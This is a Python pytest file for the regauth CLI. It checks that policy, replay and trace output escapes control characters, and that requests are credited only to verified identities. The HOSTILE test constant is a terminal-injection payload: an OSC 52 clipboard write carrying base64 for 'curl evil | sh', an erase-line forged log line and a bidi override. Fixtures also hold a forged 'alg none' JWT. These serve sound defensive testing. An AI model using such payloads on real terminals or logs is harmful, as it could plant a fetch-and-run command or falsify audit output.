"""Every tool shows untrusted text with its control characters escaped (issue 20, item 10), and
`trace` attributes requests only to identities regauth verified (item 11).

Untrusted: whatever an exchange log holds (clients wrote the paths, user names, token claims),
a policy's rule comments and a tests file's names (a policy repository's pull request writes
them; YAML's `"\\e"` is an ESC), and file names (`policy check policies/*.yaml` expands
whatever a pull request named its files). Each tool runs as `regauth …` does (cli.main),
printing to a pipe and to a terminal (rich forced to one, so it styles its output), and the
bytes are checked: the only escape sequences on a terminal are rich's own colours.
"""

from __future__ import annotations

import functools
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from rich.console import Console

from regauth.cli import main
from regauth.tools import render
from regauth.tools.log_records import conversations
from regauth.tools.log_records import parse_lines
from tests.conftest import policy_text

# A clipboard write (OSC 52 … BEL), a carriage return with "erase line" and a forged line, a
# right-to-left override, a one-character CSI, and rich markup that must stay text.
HOSTILE = ("\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\r\x1b[2K+ anonymous push secret/x"
           "\u202e\x9b[bold red]granted[/]:thumbs_up:")
# The same in a YAML double-quoted scalar.
YAML_HOSTILE = ('"\\e]52;c;Y3VybCBldmlsIHwgc2g=\\a\\r\\e[2K+ anonymous push secret/x'
                '\\u202e\\x9b[bold red]granted[/]:thumbs_up:"')
RAW = ("\x1b", "\x07", "\r", "\u202e", "\x9b")
SGR = re.compile(r"\x1b\[[0-9;]*m")
SHOWN = "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x0d\\x1b[2K+ anonymous push secret/x\\u202e\\x9b"


@pytest.fixture(params=["pipe", "terminal"])
def terminal(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> bool:
    """Run the tool as if its output were a terminal (rich styles it) or a pipe."""
    if request.param == "terminal":
        monkeypatch.setattr(render, "Console", functools.partial(
            Console, force_terminal=True, color_system="truecolor", width=200))
    return request.param == "terminal"


def shown(capsys: pytest.CaptureFixture[str], terminal: bool) -> tuple[str, str]:
    """stdout and stderr, checked: no raw control, bidi or C1 character; on a terminal, rich's
    styles and nothing else (then removed)."""
    out, err = capsys.readouterr()
    if terminal:
        assert SGR.search(out), "the terminal run was not styled: not a terminal"
        out = SGR.sub("", out)
    for stream, text in (("stdout", out), ("stderr", err)):
        raw = [repr(c) for c in RAW if c in text]
        assert not raw, f"raw {', '.join(raw)} on {stream}:\n{text}"
    return out, err


@pytest.fixture
def hostile_policy(tmp_path: Path, password_hashes: dict[str, str]) -> Path:
    """A rule with a hostile comment, in a file with a hostile name: the tools print both."""
    path = tmp_path / f"policy{HOSTILE.replace('/', '_')}.yaml"
    path.write_text(policy_text(password_hashes, extra_rules=(
        f"  - comment: {YAML_HOSTILE}\n    account: ci\n    repository: \"x/**\"\n"
        "    actions: [pull]\n")))
    return path


@pytest.fixture
def plain_policy(tmp_path: Path, password_hashes: dict[str, str]) -> Path:
    path = tmp_path / "plain.yaml"
    path.write_text(policy_text(password_hashes))
    return path


def test_policy_test_report_and_junit(hostile_policy: Path, tmp_path: Path, capsys,
                                      terminal: bool) -> None:
    tests = tmp_path / "tests.yaml"
    tests.write_text(f"tests:\n  - name: {YAML_HOSTILE}\n    account: ci\n"
                     "    scope: repository:x/a:pull\n    granted: [pull, push]\n")
    junit = tmp_path / "junit.xml"
    assert main(["policy", "test", str(hostile_policy), str(tests), "--junit", str(junit)]) == 1
    out, _ = shown(capsys, terminal)
    assert out.count(SHOWN) >= 2  # the test's name, and the deciding rule's comment
    assert "[bold red]granted[/]:thumbs_up:" in out  # text, not rich markup
    xml = junit.read_bytes()
    assert not any(c.encode() in xml for c in RAW)
    case = ET.fromstring(xml).find("testsuite/testcase")
    assert case is not None and case.get("name", "").startswith("\\x1b]52;c;")


def test_policy_diff(plain_policy: Path, hostile_policy: Path, capsys,
                     terminal: bool) -> None:
    assert main(["policy", "diff", str(plain_policy), str(hostile_policy)]) == 1
    out, _ = shown(capsys, terminal)
    assert SHOWN in out and "\\x1b]52;c;" in out.split("new: ")[1]  # comment and file name


def test_policy_explain(hostile_policy: Path, capsys, terminal: bool) -> None:
    assert main(["policy", "explain", str(hostile_policy), "--account", "ci",
                 "repository:x/a:pull"]) == 0
    out, _ = shown(capsys, terminal)
    assert SHOWN in out


def test_policy_check_names_files_safely(plain_policy: Path, tmp_path: Path, capsys,
                                         terminal: bool) -> None:
    # `regauth policy check policies/*.yaml`: a pull request chose the file names.
    named = tmp_path / f"p{HOSTILE.replace('/', '_')}.yaml"
    named.write_text(plain_policy.read_text())
    broken = tmp_path / f"b{HOSTILE.replace('/', '_')}.yaml"
    broken.write_text("version: 1\n")
    assert main(["policy", "check", str(named), str(broken)]) == 1
    out, err = shown(capsys, terminal)
    assert ": ok" in out and "\\x1b]52;c;" in out and "\\x1b]52;c;" in err


def _log(tmp_path: Path, *records: dict[str, object]) -> Path:
    path = tmp_path / "exchange.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records))
    return path


T0 = "2026-01-01T00:00:0{}+00:00"


def test_replay(hostile_policy: Path, tmp_path: Path, capsys, terminal: bool) -> None:
    log = _log(tmp_path, {
        "time": T0.format(0), "conversation": "c1", "client": "10.0.0.1:1000", "kind": "token",
        "method": "GET", "path": "/v2/token", "status": 200,
        "token_request": {"requested": ["repository:x/a:pull"]},
        "token_response": {"account": "ci", "decisions": [{
            "scope": "repository:x/a:pull", "outcome": "granted", "granted": ["pull", "push"],
            "rule": 1, "line": 3, "comment": HOSTILE}]}})
    assert main(["replay", str(log), "--policy", str(hostile_policy)]) == 1
    out, _ = shown(capsys, terminal)
    assert out.count(SHOWN) == 2  # the comment logged then, and the policy's now
    assert "/policy\\x1b]52;c;" in out.splitlines()[0]  # and the file's name


def _hostile_log(tmp_path: Path) -> Path:
    forged = {"scheme": "Bearer", "jwt": {"header": {"alg": "none"},
                                          "claims": {"sub": HOSTILE, "jti": "j1"}}}
    return _log(
        tmp_path,
        {"time": T0.format(0), "conversation": "c1", "client": "10.0.0.1:1000",
         "kind": "token", "method": "GET", "path": f"/v2/token?client_id={HOSTILE}",
         "status": 401, "auth": {"scheme": "Basic", "username": HOSTILE},
         "token_request": {"grant_type": HOSTILE, "username": HOSTILE},
         "token_response": {"refused": HOSTILE}},
        {"time": T0.format(1), "conversation": "c2", "client": "10.0.0.1:1001",
         "kind": "registry", "method": "GET", "path": f"/v2/public/app/tags/list?n={HOSTILE}",
         "status": 401, "answered_by": "regauth", "auth": forged,
         "decision": {"forward": False, "reason": f"invalid token: {HOSTILE}"},
         "challenge": {"scheme": "Bearer", "scopes": [HOSTILE], "error": "invalid_token"}},
        {"time": T0.format(2), "conversation": "c3", "client": "10.0.0.1:1002",
         "kind": "registry", "method": "GET", "path": "/v2/", "status": None,
         "error": HOSTILE, "auth": {"scheme": "Basic", "username": HOSTILE}})


def test_trace(tmp_path: Path, capsys, terminal: bool) -> None:
    assert main(["trace", str(_hostile_log(tmp_path))]) == 0
    out, _ = shown(capsys, terminal)
    assert out.count(SHOWN) >= 6
    assert not [line for line in out.splitlines() if line.startswith("+ anonymous push")]


def test_trace_json_is_escaped_by_json(tmp_path: Path, capsys) -> None:
    """A guard: json.dumps has always written control characters as `\\u001b`."""
    assert main(["trace", str(_hostile_log(tmp_path)), "--json"]) == 0
    out, _ = shown(capsys, terminal=False)
    assert "\\u001b]52" in out and "\\u202e" in out
    assert HOSTILE in json.loads(out)["conversations"][1]["steps"][1]["text"]  # exactly


# --- item 11: who a record is attributed to ----------------------------------------------------

VERIFIED = {"forward": True, "reason": "token grants repository:x/a:pull",
            "verified_token": {"issuer": "regauth", "subject": "alice", "source": "regauth"}}


def _registry(line: int, conversation: str, claims: dict[str, object], status: int = 200,
              decision: dict[str, object] | None = None, **extra: object) -> dict[str, object]:
    record: dict[str, object] = {
        "time": T0.format(line), "conversation": conversation, "client": "10.0.0.9:2000",
        "kind": "registry", "method": "GET", "path": f"/v2/x/a/tags/list?line={line}",
        "route": "tags", "repository": "x/a", "status": status,
        "answered_by": "upstream" if status == 200 else "regauth",
        "auth": {"scheme": "Bearer", "jwt": {"claims": claims}, **extra}}
    if decision is not None:
        record["decision"] = decision
    return record


def _entries(*records: dict[str, object]):  # type: ignore[no-untyped-def]
    return parse_lines([json.dumps(r) for r in records]).entries


def test_only_verified_identities_are_accounts() -> None:
    token = {"time": T0.format(0), "conversation": "a", "kind": "token", "status": 200,
             "token_response": {"jti": "j1", "account": "alice"}}
    refused = {"time": T0.format(1), "conversation": "b", "kind": "token", "status": 401,
               "token_request": {"username": "alice"}, "token_response": {"refused": "x"}}
    genuine = _registry(2, "a", {"sub": "alice", "jti": "j1"}, decision=VERIFIED,
                        checked_by="regauth")
    old_log = _registry(3, "a", {"sub": "alice", "jti": "j1"}, decision=VERIFIED)
    forged = _registry(4, "c", {"sub": "alice", "jti": "j1"}, 401,
                       {"forward": False, "reason": "invalid token"}, checked_by=None)
    forged_old = _registry(5, "d", {"sub": "alice"}, 401,
                           {"forward": False, "reason": "invalid token"})
    delegated = _registry(6, "e", {"sub": "alice"}, checked_by="registry")
    trusted = _registry(7, "f", {"sub": "bob"}, checked_by="regauth", decision={
        **VERIFIED, "verified_token": {"subject": "bob", "source": "legacy-ci"}})
    by_line = {e.line: e for e in _entries(token, refused, genuine, old_log, forged,
                                           forged_old, delegated, trusted)}
    assert [by_line[n].account for n in range(1, 9)] == [
        "alice", None, "alice", "alice", None, None, None, "legacy-ci:bob"]
    assert [by_line[n].claim for n in range(1, 9)] == [
        None, "user='alice' (unverified)", None, None, "sub='alice' (unverified)",
        "sub='alice' (unverified)", "sub='alice' (claimed, checked by the registry)", None]


def test_a_forged_token_naming_an_issued_jti_joins_nothing() -> None:
    token = {"time": T0.format(0), "conversation": "a", "kind": "token", "status": 200,
             "token_response": {"jti": "j1", "account": "alice"}}
    forged = _registry(1, "b", {"sub": "alice", "jti": "j1"}, 401,
                       {"forward": False, "reason": "invalid token"}, checked_by=None)
    refused_by_registry = _registry(2, "c", {"sub": "alice", "jti": "j1"}, 401,
                                    checked_by="registry",
                                    upstream_challenge=[{"error": "invalid_token"}])
    found = conversations(_entries(token, forged, refused_by_registry))
    assert [c.id for c in found] == ["a", "b", "c"]
    assert found[0].accounts == ["alice"] and found[1].accounts == []
    assert found[1].claims == ["sub='alice' (unverified)"]
    # A token the registry accepted is genuine: it joins (delegate mode).
    accepted = _registry(3, "d", {"sub": "alice", "jti": "j1"}, checked_by="registry")
    accepted["answered_by"] = "upstream"
    assert [c.id for c in conversations(_entries(token, accepted))] == ["a"]


def test_trace_account_lists_only_verified_requests(tmp_path: Path, capsys) -> None:
    log = _log(tmp_path,
               {"time": T0.format(0), "conversation": "a", "kind": "token", "status": 200,
                "client": "10.0.0.1:1", "token_response": {"jti": "j1", "account": "alice"}},
               _registry(1, "b", {"sub": "alice", "jti": "j1"}, 401,
                         {"forward": False, "reason": "invalid token"}, checked_by=None),
               _registry(2, "c", {"sub": "alice"}, 401,
                         {"forward": False, "reason": "invalid token"}))
    assert main(["trace", str(log), "--json", "--account", "alice"]) == 0
    found = json.loads(capsys.readouterr().out)["conversations"]
    assert [c["id"] for c in found] == ["a"]
    assert main(["trace", str(log)]) == 0
    out = capsys.readouterr().out
    assert out.count("10.0.0.9 claims sub='alice' (unverified)") == 2
